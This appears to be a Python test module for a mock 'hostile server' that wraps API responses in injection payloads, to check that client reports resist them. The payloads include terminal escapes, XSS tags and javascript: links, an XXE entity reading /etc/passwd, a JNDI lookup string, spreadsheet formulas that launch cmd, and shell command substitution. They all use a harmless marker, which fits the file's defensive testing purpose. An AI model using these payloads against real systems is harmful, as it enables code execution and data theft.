"""Targets whose texts attack whoever reads a report: terminals, browsers, CI systems, sheets.

Every text carries a marker, which the tests look for where it would be alive.
"""

from __future__ import annotations

import json
from typing import Any

from hostile_server import CONFORMS, INCONCLUSIVE, PROMPT, VIOLATES, Talk, behaviour, whole, wire

MARKER = "hostile-marker"
CONTROLS = "".join(map(chr, (*range(0x20), *range(0x7F, 0xA0)))) + "\u2028\u2029\ufeff\ufffe"
ESCAPES = (
    f"\x1b[31m{MARKER}\x1b[0m\x1b[2J\x1b[H\x1b]0;{MARKER}\x07"
    f"\x1b]8;;https://{MARKER}.example\x1b\\{MARKER}\x1b]8;;\x1b\\\x1bP{MARKER}\x9c\x9b5m\r"
    "\u202e\u2066\u200b\u200f"
)
MARKUP = (
    f"<{MARKER} {MARKER}='1'>\"><{MARKER} onload=x>'><img src=x onerror={MARKER}()>"
    f"</pre></code></script><script>{MARKER}()</script></style><style>{MARKER}</style>"
    f"<!-- {MARKER} <svg/onload={MARKER}()><a href=javascript:{MARKER}()>&lt;{MARKER}&#60;"
)
XML = f"]]>]]&gt;<![CDATA[<{MARKER}/>]]><!ENTITY {MARKER} SYSTEM 'file:///etc/passwd'>&{MARKER};"
MARKDOWN = (
    f"[{MARKER}](https://{MARKER}.example) ![{MARKER}](https://{MARKER}.example/x.png) "
    f"https://{MARKER}.example www.{MARKER}.example <https://{MARKER}.example> @{MARKER} "
    f"| {MARKER} |\n\n# {MARKER}\n\n```\n~~~\n| a |\n|---|\n`{MARKER}` <{MARKER}> $x$ **{MARKER}**"
)
FORMULA = f'=HYPERLINK("https://{MARKER}.example","x")\n+1\n-1\n@{MARKER}\n\t=cmd|\' /C calc\'!A0'
TEMPLATES = (
    f"{{{{token}}}} {{{{7*7}}}} {{% {MARKER} %}} ${{jndi:ldap://{MARKER}}} [bold red]{MARKER}[/] "
    f"[link=https://{MARKER}.example]{MARKER}[/link] %s %(x)s {{0}} $(touch {MARKER}) `{MARKER}`"
)


def tainted(value: Any, text: str) -> Any:
    """A JSON value with `text` before and behind every string in it."""
    match value:
        case str():
            return f"{text}{value}{text}"
        case list():
            return [tainted(item, text) for item in value]
        case dict():
            return {name: tainted(inner, text) for name, inner in value.items()}
        case _:
            return value


def taint(talk: Talk, text: str, *, raw: bool = False) -> None:
    """Answer right, but for a text around every string of every body."""
    for request in talk.requests():
        response = talk.right(request)
        body = tainted(json.loads(response.body or b"{}"), text)
        written = json.dumps(body, ensure_ascii=not raw).encode("utf-8", "surrogatepass")
        talk.send(whole(written, response.status))


@behaviour(VIOLATES, options=PROMPT)
def control_characters(talk: Talk) -> None:
    """Has every control character there is in every string."""
    taint(talk, CONTROLS + MARKER)


@behaviour(VIOLATES, options=PROMPT)
def terminal_escapes(talk: Talk) -> None:
    """Has terminal escapes in every string: colours, titles, links, cleared screens."""
    taint(talk, ESCAPES)


@behaviour(VIOLATES, options=PROMPT)
def markup_and_script(talk: Talk) -> None:
    """Has tags, attributes and scripts in every string."""
    taint(talk, MARKUP, raw=True)


@behaviour(VIOLATES, options=PROMPT)
def ends_of_cdata(talk: Talk) -> None:
    """Has what ends or begins something in XML in every string."""
    taint(talk, XML, raw=True)


@behaviour(VIOLATES, options=PROMPT)
def markdown_links_and_tables(talk: Talk) -> None:
    """Has links, pictures, headings, fences and table rows of Markdown in every string."""
    taint(talk, MARKDOWN)


@behaviour(VIOLATES, options=PROMPT)
def spreadsheet_formulas(talk: Talk) -> None:
    """Has the formulas of spreadsheets in every string."""
    taint(talk, FORMULA)


@behaviour(VIOLATES, options=PROMPT)
def templates_and_placeholders(talk: Talk) -> None:
    """Has the syntax of templates, shells and loggers in every string, and our own placeholders."""
    taint(talk, TEMPLATES)


@behaviour(CONFORMS, options=PROMPT)
def names_of_fields(talk: Talk) -> None:
    """Has such texts in the names of fields, each of them twice."""
    texts = (MARKUP, ESCAPES, MARKDOWN, XML, CONTROLS, TEMPLATES)
    for request in talk.requests():
        response = talk.right(request)
        fields = ", ".join(f"{json.dumps(text)}: 0, {json.dumps(text)}: 1" for text in texts)
        body = response.body.decode().rstrip()
        body = body.replace('"checkpoint"', f'{json.dumps(MARKUP)}: 0, "checkpoint"')
        talk.send(whole(f"{body[:-1]}, {fields}}}".encode(), response.status))


@behaviour(VIOLATES, options=PROMPT)
def reason_phrases(talk: Talk) -> None:
    """Answers with a status of no meaning, and such texts in the reason phrase."""
    texts = (MARKUP, MARKDOWN, XML, TEMPLATES, f"\x9b31m{MARKER}\x85\xa0\xad", "\t" + FORMULA)
    for _ in talk.requests():
        text = texts[talk.number % len(texts)].replace("\n", " ")
        talk.send(whole(b"{}", 299, reason=text))


@behaviour(VIOLATES, options=PROMPT)
def header_fields(talk: Talk) -> None:
    """Has such texts in header fields, the media type among them."""
    texts = (MARKUP, MARKDOWN, XML, TEMPLATES, FORMULA, f"\x9b31m{MARKER}\xff")
    lines = [" ".join(text.split()) for text in texts]
    fields = [(f"X-Text-{place}", line) for place, line in enumerate(lines)]
    fields += [(f"{MARKER}!#$%&'*+-.^_`|~", "name"), ("Location", f"javascript:{MARKER}()")]
    fields += [("Set-Cookie", f"{MARKER}={line}") for line in lines]
    for request in talk.requests():
        response = talk.right(request)
        kind = lines[talk.number % len(lines)]
        talk.send(whole(response.body, response.status, *fields, kind=kind))


@behaviour(VIOLATES, CONFORMS, options=PROMPT)
def error_bodies(talk: Talk) -> None:
    """Refuses with pages full of such texts, a stack trace and a screen of escapes."""
    page = f"<html>{MARKUP}</html>\nTraceback (most recent call last):\n{ESCAPES}{MARKDOWN}"
    for request in talk.requests():
        response = talk.right(request)
        if response.status == 200:
            talk.send(wire(response))
        else:
            talk.send(whole(page.encode() * 20, response.status, kind="text/html"))


@behaviour(VIOLATES, INCONCLUSIVE, options=PROMPT)
def error_codes(talk: Talk) -> None:
    """Refuses everything, valid requests too, with such texts as the error code."""
    texts = (MARKUP, ESCAPES, MARKDOWN, XML, CONTROLS, FORMULA)
    for _ in talk.requests():
        text = texts[talk.number % len(texts)]
        body = {"error_code": f"CSBS.{text}", "error_msg": text}
        talk.send(whole(json.dumps(body).encode(), 403))


@behaviour(VIOLATES, options=PROMPT)
def repeats_the_request(talk: Talk) -> None:
    """Repeats the whole request, tokens and all, in the reason phrase, a header and the body."""
    for request in talk.requests():
        fields = [(f"X-{name}", value) for name, value in request.headers]
        token = request.header("X-Auth-Token") or ""
        said = "\n".join(f"{name}: {value}" for name, value in request.headers)
        body = json.dumps({"error_code": token, "error_msg": f"{said}\n{request.body!r}"})
        talk.send(whole(body.encode(), 400, *fields, reason=f"token {token}"))
